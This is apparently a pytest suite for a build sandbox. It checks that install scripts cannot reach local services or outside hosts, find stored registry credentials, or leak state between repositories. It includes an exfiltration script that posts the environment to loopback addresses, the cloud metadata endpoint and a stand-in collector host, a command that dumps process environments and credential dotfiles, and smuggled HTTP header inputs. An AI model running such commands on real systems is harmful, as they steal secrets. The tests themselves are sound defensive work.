"""Set-up, the one step with a way out: what an install script would send and where to, and what it leaves."""

from __future__ import annotations

import json
import socket
import threading
import urllib.request
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from agent_tree import make_tree

from jobs.sandbox import setup
from jobs.sandbox.ask import BadAsk, signed
from jobs.sandbox.base import Command
from jobs.sandbox.cell import Cells
from jobs.sandbox.hosts import Hosts
from jobs.sandbox.interpreters import choose
from jobs.sandbox.layer import Layer, LayerKey

CANARY = "canary-9d1f00"
PYTHON = "/opt/patchwright/bin/python3"
Build = Callable[..., Layer]
# An install script: sends its environment wherever it might be heard, directly and by the proxy.
SEND = """
import os, socket, sys, urllib.request
port, stolen = sys.argv[1], repr(dict(os.environ)).encode()
for url in (f"http://127.0.0.1:{port}/", f"http://localhost:{port}/", f"http://listed.invalid:{port}/", f"http://[::1]:{port}/",
            f"http://0.0.0.0:{port}/", f"http://2130706433:{port}/", f"http://127.1:{port}/", f"http://[::ffff:127.0.0.1]:{port}/",
            "http://169.254.169.254/latest/meta-data/", "http://collector.invalid/?" + "x" * 200):
    for proxies in ({}, None):
        opener = urllib.request.build_opener(urllib.request.ProxyHandler(proxies))
        for data in (None, stolen):
            try:
                print("heard", url, opener.open(url, data, timeout=3).read()[:80])
            except Exception as e:  # whichever way it is refused
                print("refused", url[:40], str(e)[:60])
"""


@pytest.fixture
def build(cells: Cells, tmp_path: Path) -> Build:
    """Set-up of a tree by commands, as a run of `repository` with `trust` does it."""

    def run(
        tree: Path, *commands: str, hosts: frozenset[tuple[str, int]], repository: str = "1", trust: str = "default"
    ):
        key = LayerKey.of(tree, repository=repository, trust=trust, commands=commands, tools=choose(tree).versions)
        return setup.build(cells, tree, commands, store=tmp_path / "layers", key=key, hosts=Hosts(hosts))

    return run


@pytest.fixture
def listener() -> Iterator[tuple[int, list[bytes]]]:
    """A service of this machine that answers whoever asks, and what it heard."""
    heard: list[bytes] = []
    with socket.create_server(("127.0.0.1", 0)) as door:
        door.settimeout(0.1)
        over = threading.Event()

        def serve() -> None:
            while not over.is_set():
                try:
                    client, _ = door.accept()
                except TimeoutError:
                    continue
                with client:
                    client.settimeout(1)
                    heard.append(client.recv(65536))
                    client.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok")

        thread = threading.Thread(target=serve)
        thread.start()
        yield door.getsockname()[1], heard
        over.set()
        thread.join()


@pytest.mark.threat(63, 37)
@pytest.mark.timeout(60)
def test_an_install_script_reaches_no_service_of_this_machine(
    build: Build, tmp_path: Path, listener: tuple[int, list[bytes]], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Names that are listed but lead here are no way in either."""
    port, heard = listener
    monkeypatch.setenv("REGISTRY_PASSWORD", CANARY)
    tree = make_tree(tmp_path / "tree", {"send.py": SEND})
    allowed = frozenset({("localhost", port), ("listed.invalid", port), ("127.0.0.1", port), ("registry.invalid", 443)})
    layer = build(tree, f"{PYTHON} send.py {port} > /env/told 2>&1", hosts=allowed)
    told = (layer.env / "told").read_text()
    assert [row.split()[0] for row in told.splitlines()] == ["refused"] * 40, told
    assert heard == []
    urllib.request.build_opener(urllib.request.ProxyHandler({})).open(f"http://127.0.0.1:{port}/", b"stolen").close()
    assert len(heard) == 1, "nothing is heard at all: it shows nothing"
    assert {f"localhost:{port}", f"127.0.0.1:{port}", "169.254.169.254:80", "collector.invalid:80"} <= set(
        layer.blocked
    )


@pytest.mark.threat(28, 63)
def test_no_secret_is_there_to_be_sent(build: Build, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A private registry's credential among them, in every place where tools keep one."""
    home = tmp_path / "home"
    kept = (".npmrc", ".netrc", ".pypirc", ".git-credentials", ".config/pip/pip.conf", ".docker/config.json", ".ssh/id")
    make_tree(home, dict.fromkeys(kept, f"//registry.invalid/:_authToken={CANARY}\n"))
    monkeypatch.setenv("HOME", str(home))
    for name in ("PIP_INDEX_URL", "UV_DEFAULT_INDEX", "UV_INDEX_URL", "npm_config_registry"):
        monkeypatch.setenv(name, f"https://agent:{CANARY}@registry.invalid/simple")
    monkeypatch.setenv("NODE_AUTH_TOKEN", CANARY)
    look = (
        "exec > /env/told 2>&1; env; cat /proc/*/environ /proc/*/cmdline; cat ~/.* ~/.*/*; ls -laR /home /root /run;"
        f" cat {home}/.npmrc {home}/.netrc; npm config ls -l; pip config list; git config --list; true"
    )
    layer = build(make_tree(tmp_path / "tree", {"a": "1"}), look, hosts=frozenset())
    told = (layer.env / "told").read_text(errors="replace")
    assert "HOME=/home/agent" in told
    assert CANARY not in told
    assert CANARY not in (layer.path / "layer.json").read_text()


@pytest.mark.threat(63)
def test_what_one_repository_plants_no_other_one_and_no_other_trust_gets(
    build: Build, cells: Cells, tmp_path: Path
) -> None:
    tree = make_tree(tmp_path / "tree", {"pyproject.toml": "[project]\n"})
    plant = "echo $RANDOM$RANDOM > /env/planted; echo x > ~/cached; mkdir -p /tmp/cache; echo x > /tmp/cache/x"
    own = build(tree, plant, hosts=frozenset())
    stranger = build(tree, plant, hosts=frozenset(), repository="2")
    fork = build(tree, plant, hosts=frozenset(), trust="fork")
    again = build(tree, plant, hosts=frozenset())
    assert len({own.path, stranger.path, fork.path}) == 3
    assert len({(one.env / "planted").read_text() for one in (own, stranger, fork)}) == 3
    assert (again.path, (again.env / "planted").read_text()) == (own.path, (own.env / "planted").read_text())
    clean = build(tree, "ls -A ~ /tmp /env > /env/there", hosts=frozenset(), repository="3")
    assert not {"cached", "cache", "planted"} & set((clean.env / "there").read_text().split())
    line = f"echo more >> /env/planted; rm -f /env/planted; ls {own.path} {stranger.path}; touch /env/x; ls /env"
    told = cells.on(tree, own).run(Command.shell(line)).text
    assert told.splitlines()[-1] == "planted"
    assert json.loads((own.path / "layer.json").read_text())["key"] == own.key
    assert str(stranger.path) not in cells.on(tree, own).run(Command.shell("cat /proc/self/mountinfo")).text


# On a shared front the host is what chooses who gets the request, credentials and all.
@pytest.mark.threat(27, 63)
@pytest.mark.parametrize(
    "line",
    [
        b"Host: tenant.evil.invalid",
        b"X-HTTP-Method-Override: EVIL",
        b"authorization : Basic EVIL",
        b"Authorization: Basic EVIL",
        b"Proxy-Authorization: EVIL",
        b"Cookie: EVIL",
    ],
)
def test_what_is_asked_with_our_credentials_is_ours(line: bytes) -> None:
    """A request inside a tunnel to a registry whose credentials the way out adds."""
    head = b"\r\n".join([b"GET /simple/ HTTP/1.1", b"Host: registry.invalid", line, b"Accept: */*"])
    assert b"evil" not in signed(head, ("registry.invalid", 443), "Basic ours").lower()


@pytest.mark.threat(63)
@pytest.mark.parametrize(
    "first",
    [
        b"PUT /x HTTP/1.1", b"POST /x HTTP/1.1", b"get /x HTTP/1.1", b"GET /x\nX: y HTTP/1.1", b"GET", b"",
        b"GET http://evil.invalid/ HTTP/1.1", b"GET /x HTTP/2", b"PRI * HTTP/2.0", b"CONNECT evil.invalid:443 HTTP/1.1",
    ],
)  # fmt: skip
def test_nothing_but_reading_is_done_with_our_credentials(first: bytes) -> None:
    with pytest.raises(BadAsk):
        signed(first + b"\r\nHost: registry.invalid", ("registry.invalid", 443), "Basic ours")
